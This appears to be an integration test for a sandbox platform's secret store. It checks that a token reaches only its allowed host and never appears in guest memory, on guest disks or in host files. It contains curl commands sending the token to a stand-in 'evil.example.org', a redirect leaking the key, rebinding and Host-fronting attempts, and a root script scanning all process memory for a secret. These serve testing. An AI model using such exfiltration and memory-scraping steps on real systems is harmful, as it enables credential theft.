// Secrets in a real machine, by the published client: the guest's root looks for a value everywhere, and the host's files
// are searched for it. Both searches find the sealed text, so they would have found the value.
import assert from "node:assert/strict";
import { type FileHandle, mkdtemp, open, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { createServer as createPlainServer } from "node:http";
import { createServer as createHttpsServer } from "node:https";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, suite, test } from "node:test";
import { Sandbox, SecretStore } from "@opencomputer/sdk";
import { openDatabase } from "../../packages/control-plane/src/database/database.ts";
import { MasterKeys } from "../../packages/control-plane/src/secrets/master-keys.ts";
import { SecretRows } from "../../packages/control-plane/src/secrets/secret-rows.ts";
import { dataRanges } from "../../packages/worker/src/host/kernel/libc.ts";
import { openTcpListener } from "../../packages/worker/src/host/kernel/sockets.ts";
import { LeafCertificates } from "../../packages/worker/src/network/secrets/leaf-certificates.ts";
import { startFakeResolver } from "../../packages/worker/src/network/testing/fake-resolver.ts";
import { startInternet, worldAddresses } from "../../packages/worker/src/network/testing/internet.ts";
import { inOwnHost } from "../../packages/worker/src/network/testing/own-host.ts";
import { makeTestAuthority } from "../../packages/worker/src/network/testing/test-authority.ts";
import { startWorld, type World } from "./world.ts";

const value = `value-${"x7".repeat(12)}-of-the-secret`;

/** What the guest searches for. Freed memory of a search keeps its text, and the host's files are searched for the whole value. */
const startOfValue = value.slice(0, 24);

/** Searches the memory of every process for a text, given in two parts so that the search does not find itself. */
const searchMemory = `
import os, re, sys
wanted = (sys.argv[1] + sys.argv[2]).encode()
found = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid(): continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if end - start > 1 << 30 or " r" not in line: continue
                try:
                    memory.seek(start)
                    if wanted in memory.read(end - start): found.append(pid)
                except (OSError, ValueError, OverflowError): pass
    except OSError: pass
print(len(found))
`;

inOwnHost(import.meta.filename, () => {
  suite("secrets of a real machine", () => {
    const stack = new AsyncDisposableStack();
    let world: World;
    let client: { readonly apiUrl: string; readonly apiKey: string };
    let sandbox: Sandbox;
    let sealed: string;
    /** What the servers have received: the name that the connection was for, and the header. */
    const arrived: { readonly server: string; readonly key: string | undefined; readonly url: string }[] = [];

    before(async () => {
      const internet = stack.use(await startInternet([22]));
      const names = { "api.example.com": [worldAddresses.site], "evil.example.org": [worldAddresses.otherSite] };
      const internal = { "internal.example.net": [worldAddresses.otherSite] };
      stack.use(startFakeResolver({ ...names, ...internal }));
      const authority = await makeTestAuthority("a well-known one");
      const company = await makeTestAuthority("a company's own");
      const leaves = new LeafCertificates(authority);
      for (const [name, [address = ""]] of Object.entries(names)) {
        const { certificate, privateKey } = await leaves.of(name);
        const handle: Parameters<typeof createPlainServer>[1] = (request, response) => {
          const { "x-key": key } = request.headers;
          arrived.push({ server: name, key: typeof key === "string" ? key : undefined, url: request.url ?? "" });
          if (request.url !== "/redirect") return void response.end(`from ${name}\n`);
          response.writeHead(302, { location: `https://evil.example.org/?key=${String(key)}` }).end();
        };
        const https = createHttpsServer({ cert: certificate, key: privateKey }, handle);
        https.listen({ fd: openTcpListener(internet.namespace, { address, port: 443 }) });
        const plain = createPlainServer(handle);
        plain.listen({ fd: openTcpListener(internet.namespace, { address, port: 80 }) });
        stack.defer(() => {
          for (const server of [https, plain]) {
            server.closeAllConnections();
            server.close();
          }
        });
      }
      const { certificate, privateKey } = await new LeafCertificates(company).of("internal.example.net");
      const site = createHttpsServer({ cert: certificate, key: privateKey }, (_request, response) => {
        response.end("from the company\n");
      });
      site.listen({ fd: openTcpListener(internet.namespace, { address: worldAddresses.otherSite, port: 8443 }) });
      stack.defer(() => {
        site.closeAllConnections();
        site.close();
      });
      const directory = await mkdtemp(join(tmpdir(), "osb-authorities-"));
      stack.defer(() => rm(directory, { recursive: true }));
      const authorities = join(directory, "authorities.pem");
      await writeFile(authorities, authority.certificate);
      const extra = join(directory, "extra.pem");
      await writeFile(extra, company.certificate);
      world = stack.use(
        await startWorld({
          OPENSANDBOX_SECRETS_CA_FILE: authorities,
          OPENSANDBOX_EXTRA_CA: extra,
          OPENSANDBOX_NETWORK: "tap",
        }),
      );
      client = { apiUrl: world.url, apiKey: world.apiKey };
      const { id } = await SecretStore.create({ ...client, name: "test" });
      await SecretStore.setSecret(id, "TOKEN", value, { ...client, allowedHosts: ["api.example.com"] });
      sandbox = await Sandbox.create({ ...client, template: "minimal", secretStore: "test", timeout: 0 });
      sealed = await run("printf %s $TOKEN");
    });
    after(() => stack.disposeAsync());

    async function run(command: string, where = sandbox): Promise<string> {
      const { stdout, stderr } = await where.commands.run(command, { timeout: 300 });
      return (stdout + stderr).trim();
    }

    /** What arrived since. */
    async function during(work: () => Promise<unknown>): Promise<readonly (readonly [string, string | undefined])[]> {
      const before = arrived.length;
      await work();
      return arrived.slice(before).map(({ server, key }) => [server, key] as const);
    }

    test("every guest trusts the extra CA of the host: with secrets and without", async () => {
      const fetch = `curl -sS https://internal.example.net:8443/; python3 -c "import urllib.request as u; print(u.urlopen('https://internal.example.net:8443/').read())"`;
      const answer = "from the company\nb'from the company\\n'";
      const plain = await Sandbox.create({ ...client, template: "minimal", timeout: 0 });
      for (const where of [sandbox, plain]) assert.equal(await run(fetch, where), answer);
      assert.match(
        await run("curl -sS https://api.example.com/", plain),
        /certificate/,
        "no other authority is trusted",
      );
      await plain.kill();
    });

    test("the guest sees a sealed text, and the allowed host gets the value, by curl and by Python", async () => {
      assert.match(sealed, /^osb_sealed_[0-9a-f]{32}$/);
      const byCurl = () => run('curl -sS -H "X-Key: $TOKEN" https://api.example.com/');
      assert.deepEqual(await during(byCurl), [["api.example.com", value]]);
      const python =
        "import os, urllib.request as r; r.urlopen(r.Request('https://api.example.com/', headers={'X-Key': os.environ['TOKEN']}))";
      assert.deepEqual(await during(() => run(`python3 -c "${python}"`)), [["api.example.com", value]]);
      // As root, without the environment, by the system's store alone.
      const bare = () => run(`sudo env -i /usr/bin/curl -sS -H "X-Key: ${sealed}" https://api.example.com/`);
      assert.deepEqual(await during(bare), [["api.example.com", value]]);
    });

    test("another host, plain HTTP, a redirect and a false address get no value", async () => {
      assert.deepEqual(await during(() => run('curl -skS -H "X-Key: $TOKEN" https://evil.example.org/')), [
        ["evil.example.org", sealed],
      ]);
      assert.deepEqual(await during(() => run('curl -sS -H "X-Key: $TOKEN" http://api.example.com/')), [
        ["api.example.com", sealed],
      ]);
      const redirected = await during(() => run('curl -skSL -H "X-Key: $TOKEN" https://api.example.com/redirect'));
      assert.deepEqual(
        redirected.map(([server]) => server),
        ["api.example.com", "evil.example.org"],
      );
      assert.equal(arrived.at(-1)?.url, `/?key=${sealed}`);
      const rebound = `curl -skS --resolve api.example.com:443:${worldAddresses.otherSite} -H "X-Key: $TOKEN" https://api.example.com/`;
      assert.deepEqual(await during(async () => assert.match(await run(rebound), /no secret was sent/)), []);
      const fronted = `curl -skS -H "Host: evil.example.org" -H "X-Key: $TOKEN" https://api.example.com/`;
      assert.deepEqual(await during(() => run(fronted)), [["api.example.com", sealed]]);
      const { stdout: names } = await sandbox.commands.run(
        `curl -skS --connect-to api.example.com:443:evil.example.org:443 -H "X-Key: $TOKEN" https://api.example.com/`,
      );
      assert.match(names, /no secret was sent/);
      const log = await fetch(`${world.url}/api/sandboxes/${sandbox.sandboxId}/network/log`, {
        headers: { "X-API-Key": world.apiKey },
      });
      const reasons = ((await log.json()) as { readonly reason: string }[]).map(({ reason }) => reason).join("\n");
      assert.match(reasons, /certificate is not valid for api\.example\.com/);
      assert.match(reasons, /the secret TOKEN is not for the Host evil\.example\.org/);
    });

    test("a rule sets a header in HTTPS requests to its host, also to a sealed text's value, until it is removed", async () => {
      const set = async (egress: object): Promise<void> => {
        const url = `${world.url}/api/sandboxes/${sandbox.sandboxId}/network`;
        const asked = { "X-API-Key": world.apiKey, "content-type": "application/json" };
        const reply = await fetch(url, { method: "PUT", headers: asked, body: JSON.stringify({ egress }) });
        assert.equal(reply.status, 200, await reply.text());
      };
      const ask = () => run("curl -sS -H 'X-Key: mine' https://api.example.com/");
      await set({ headers: { "api.example.com": { "X-Key": "of-the-rule" } } });
      assert.deepEqual(await during(ask), [["api.example.com", "of-the-rule"]]);
      assert.deepEqual(await during(() => run("curl -sS -H 'X-Key: mine' http://api.example.com/")), [
        ["api.example.com", "mine"],
      ]);
      await set({ headers: { "api.example.com": { "X-Key": sealed } } });
      assert.deepEqual(await during(ask), [["api.example.com", value]]);
      await set({ headers: {} });
      assert.deepEqual(await during(ask), [["api.example.com", "mine"]]);
    });

    test("root in the guest finds the value nowhere: not in environments, memory, or on disks", async () => {
      await sandbox.files.write("/tmp/search.py", searchMemory);
      await run("sleep 1000 >/dev/null 2>&1 &");
      const inMemory = (text: string) => run(`sudo python3 /tmp/search.py ${text.slice(0, 12)} ${text.slice(12)}`);
      assert.equal(await inMemory(startOfValue), "0");
      assert.notEqual(await inMemory(sealed), "0");
      // The pattern does not match itself in the command line of the shell.
      const onDisks = (text: string) =>
        run(
          `sudo grep -rlF --exclude-dir=proc --exclude-dir=sys -- "$(printf %s%s ${text.slice(0, 12)} ${text.slice(12)})" / 2>/dev/null | wc -l`,
        );
      await run("printf %s $TOKEN >/home/sandbox/sealed");
      assert.equal(await onDisks(startOfValue), "0");
      assert.notEqual(await onDisks(sealed), "0");
      assert.doesNotMatch(await run("sudo cat /run/sandbox-agent/environment.json"), /PRIVATE KEY/);
    });

    test("no file of the host has the value or the authority's key: not the database, journal, snapshot or log", async () => {
      const secrets = [value, await lineOfPrivateKey(world)];
      const { dataDirectory } = world.config;
      assert.deepEqual(await filesWith(dataDirectory, secrets), []);
      await sandbox.hibernate();
      assert.deepEqual(await filesWith(dataDirectory, secrets), []);
      assert.notDeepEqual(await filesWith(dataDirectory, [sealed]), []);
    });

    test("a wake and a fork use the secret under the same sealed text, and a new value at once", async () => {
      await sandbox.wake();
      assert.equal(await run("printf %s $TOKEN"), sealed);
      assert.deepEqual(await during(() => run('curl -sS -H "X-Key: $TOKEN" https://api.example.com/')), [
        ["api.example.com", value],
      ]);
      const { id: checkpoint } = await sandbox.createCheckpoint("one");
      const fork = await Sandbox.createFromCheckpoint(checkpoint, client);
      stack.defer(() => fork.kill());
      assert.deepEqual(await during(() => run('curl -sS -H "X-Key: $TOKEN" https://api.example.com/', fork)), [
        ["api.example.com", value],
      ]);
      const [store] = await SecretStore.list(client);
      await SecretStore.setSecret(store?.id ?? "", "TOKEN", "another", client);
      for (const where of [sandbox, fork]) {
        assert.deepEqual(await during(() => run('curl -sS -H "X-Key: $TOKEN" https://api.example.com/', where)), [
          ["api.example.com", "another"],
        ]);
      }
      await sandbox.kill({ deleteSecretStore: true });
      assert.deepEqual(await during(() => run('curl -sSk -H "X-Key: $TOKEN" https://api.example.com/', fork)), [
        ["api.example.com", sealed],
      ]);
    });
  });
});

/** A line of the private key of the only authority, as only the master key opens it. */
async function lineOfPrivateKey({ config }: World): Promise<string> {
  await using database = await openDatabase(join(config.dataDirectory, "opensandbox.sqlite"));
  const { id } = await database.selectFrom("guest_authorities").select("id").executeTakeFirstOrThrow();
  const keys = (await readFile(join(config.dataDirectory, "master-key"), "utf8")).trim().split("\n");
  const { privateKey } = await new SecretRows(database, new MasterKeys(keys)).authority(id);
  return privateKey.split("\n")[1] ?? assert.fail("the private key is not PEM");
}

/** The files below a directory that have one of the texts. Holes of sparse files are left out. */
async function filesWith(directory: string, texts: readonly string[]): Promise<readonly string[]> {
  const found: string[] = [];
  const longest = Math.max(...texts.map((text) => text.length));
  for (const entry of await readdir(directory, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const path = join(entry.parentPath, entry.name);
    await using file = await open(path);
    const { size } = await file.stat();
    if (await hasOne(file, dataRanges(file.fd, size), texts, longest)) found.push(path);
  }
  return found;
}

async function hasOne(
  file: FileHandle,
  ranges: ReturnType<typeof dataRanges>,
  texts: readonly string[],
  overlap: number,
): Promise<boolean> {
  const buffer = Buffer.alloc(8 * 2 ** 20);
  for (const [start, end] of ranges) {
    for (let at = start; at < end; at += buffer.length - overlap) {
      const { bytesRead } = await file.read(buffer, 0, Math.min(buffer.length, end - at), at);
      const bytes = buffer.subarray(0, bytesRead);
      if (texts.some((text) => bytes.includes(text))) return true;
    }
  }
  return false;
}
